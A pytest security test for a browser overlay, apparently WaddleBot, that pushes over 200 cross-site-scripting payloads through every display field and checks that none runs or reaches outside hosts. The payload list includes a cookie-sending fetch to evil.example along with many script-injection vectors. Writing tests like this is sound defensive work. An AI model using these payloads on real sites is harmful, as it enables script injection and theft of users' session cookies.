"""What comes from outside, through every field of every action, in a browser: nothing of it runs, nothing leaves."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest
from overlay_doubles import Overlay

# Each tries to call `pwned` or to reach evil.example. Sources for the forms: OWASP's and PortSwigger's cheat sheets.
SCRIPTS = [
    "pwned()",
    "top.pwned()",
    "fetch('https://evil.example/'+document.cookie)",
    "location='https://evil.example/'",
]
FORMS = r"""
<script>HERE</script>
<ScRiPt>HERE</sCrIpT>
<script/x>HERE</script>
<script type=module>HERE</script>
<scr<script>ipt>HERE</scr</script>ipt>
</script><script>HERE</script>
</title><script>HERE</script>
<img src=x onerror=HERE>
<img src=x onerror="HERE">
<img/src=x/onerror=HERE>
<img src=`x` onerror=HERE>
<svg onload=HERE>
<svg><script>HERE</script></svg>
<svg><animate onbegin=HERE attributeName=x dur=1s>
<svg><foreignObject><body onload=HERE></foreignObject></svg>
<math><mtext><img src=x onerror=HERE></mtext></math>
<math><style><img src=x onerror=HERE></style></math>
<body onload=HERE>
<body onpageshow=HERE>
<details open ontoggle=HERE>x</details>
<input autofocus onfocus=HERE>
<select autofocus onfocus=HERE>
<video><source onerror=HERE></video>
<video src=x onerror=HERE>
<audio src=x onerror=HERE>
<iframe src="javascript:HERE"></iframe>
<iframe srcdoc="<script>HERE</script>"></iframe>
<embed src="javascript:HERE">
<object data="javascript:HERE"></object>
<a href="javascript:HERE">x</a>
<form action="javascript:HERE"><button autofocus>x</button></form>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<link rel=stylesheet href=https://evil.example/>
<style>@import 'https://evil.example/'; body{background:url(https://evil.example/)}</style>
<p style="background:url(https://evil.example/)">x</p>
<p style="background:u\72l(https://evil.example/)">x</p>
<p style="width:expression(HERE)">x</p>
<p style="background-image:image-set('https://evil.example/' 1x)">x</p>
<img src=https://evil.example/pixel.png>
<img srcset="https://evil.example/ 1x">
<table background=https://evil.example/><tr><td>x</table>
<noscript><p title="</noscript><img src=x onerror=HERE>">
<template><script>HERE</script></template>
<marquee onstart=HERE>x</marquee>
<x onclick=HERE tabindex=1 id=x autofocus>
"><script>HERE</script>
'><img src=x onerror=HERE>
javascript:HERE
data:text/html,<script>HERE</script>
{{constructor.constructor('HERE')()}}
${HERE}
\u003cscript\u003eHERE\u003c/script\u003e
&lt;script&gt;HERE&lt;/script&gt;
<!--><script>HERE</script>-->
<![CDATA[<script>HERE</script>]]>
<button form=x formaction="javascript:HERE">
<isindex type=image src=1 onerror=HERE>
<object type="text/html" data="https://evil.example/"></object>
<portal src=https://evil.example/>
""".strip().splitlines()
PAYLOADS = [form.replace("HERE", script) for form in FORMS for script in SCRIPTS]
HOOK = """
window.ran = [];
window.pwned = () => window.ran.push('pwned');
for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.ran.push(name);
document.addEventListener('securitypolicyviolation', (event) => window.ran.push('policy: ' + event.blockedURI));
"""


def through_every_field(number: int, payload: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """The payload in all fields at once. Kinds whose fields are shown in the same way take turns."""
    yield "ticker", {"text": payload, "display_s": 0.01}
    texts = ("title", "artist", "album", "service", "requested_by", "media_url", "artwork_url")
    kind = ("music", "video", "image", "clip")[number % 4]
    yield "media", {"media_type": kind, **dict.fromkeys(texts, payload), "display_s": 0.01}
    for kind in ("html", ("announcement", "alert")[number % 2]):
        yield "general", {"kind": kind, "title": payload, "text": payload, "html": payload, "display_s": 0.01}
    yield "form", form_of(payload)


def form_of(payload: str) -> dict[str, Any]:
    return {
        "form_title": payload,
        "form_description": payload,
        "form_submit_url": payload,
        "form_callback_url": payload,
        "display_s": 0.01,
        "form_fields": [{"name": payload[:64], "type": "select", "label": payload, "options": [payload]}],
    }


@pytest.fixture
def context(browser: Any) -> Iterator[Any]:
    made = browser.new_context(viewport={"width": 640, "height": 360}, reduced_motion="reduce")
    made.add_init_script(HOOK)
    yield made
    made.close()


def reports(overlay: Overlay) -> float:
    metrics = overlay.fleet.request("GET", "/browser/metrics").json()["metrics"]
    return metrics["waddlebot_browser_source_core_policy_reports_total"]


def test_there_are_more_than_two_hundred_payloads():
    assert len(set(PAYLOADS)) >= 200


def test_the_hooks_of_these_tests_work(context, live, site):
    """A policy that would let something through, or a hook that hears nothing, must not pass for safety."""
    page = context.new_page()
    page.goto(f"{site}/browser/source/{live.tokens()['ticker']['token']}/ticker")
    before = reports(live)

    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/x.png\">')")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"nothing.png\" onerror=\"pwned()\">')")
    page.evaluate("pwned()")
    page.wait_for_timeout(500)

    ran = page.evaluate("window.ran")
    assert "pwned" in ran
    assert any(each.startswith("policy: https://evil.example") for each in ran)
    assert "policy: inline" in ran
    assert reports(live) >= before + 2


@pytest.mark.timeout(300)
@pytest.mark.parametrize("source_type", ["ticker", "media", "general"])
def test_no_payload_runs_or_leaves_the_page(context, live, site, source_type):
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: requests.append(f"dialog:{dialog.message}"))
    page.goto(f"{site}/browser/source/{live.tokens()[source_type]['token']}/{source_type}")
    page.wait_for_selector("html[data-line=open]", state="attached")
    url, before, sent = page.url, reports(live), 0
    for number, payload in enumerate(PAYLOADS):
        for action, data in through_every_field(number, payload):
            if action == source_type or (action == "form" and source_type == "general"):
                live.display(action, data)
                sent += 1

    until = time.monotonic() + 120
    while live.states(source_type).count("done") < sent:
        assert time.monotonic() < until
        page.wait_for_timeout(500)
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") == []
    assert page.url == url
    port = live.hub.environment["WEBSOCKET_PORT"]
    allowed = (site, f"ws://127.0.0.1:{port}/", "about:")
    assert [each for each in requests if not each.startswith(allowed)] == []
    assert [len(context.pages), reports(live) - before] == [1, 0]


def test_no_payload_runs_on_the_viewers_form(context, live, site):
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    before = reports(live)
    for payload in PAYLOADS[::4]:
        url = live.display("form", form_of(payload))["form_url"]
        page.goto(url.replace("http://waddlebot.test", site))
        assert page.evaluate("window.ran") == []
        page.locator("select").select_option(index=1)
        assert page.locator("select").input_value() == payload

    assert [each for each in requests if not each.startswith(site)] == []
    assert reports(live) == before
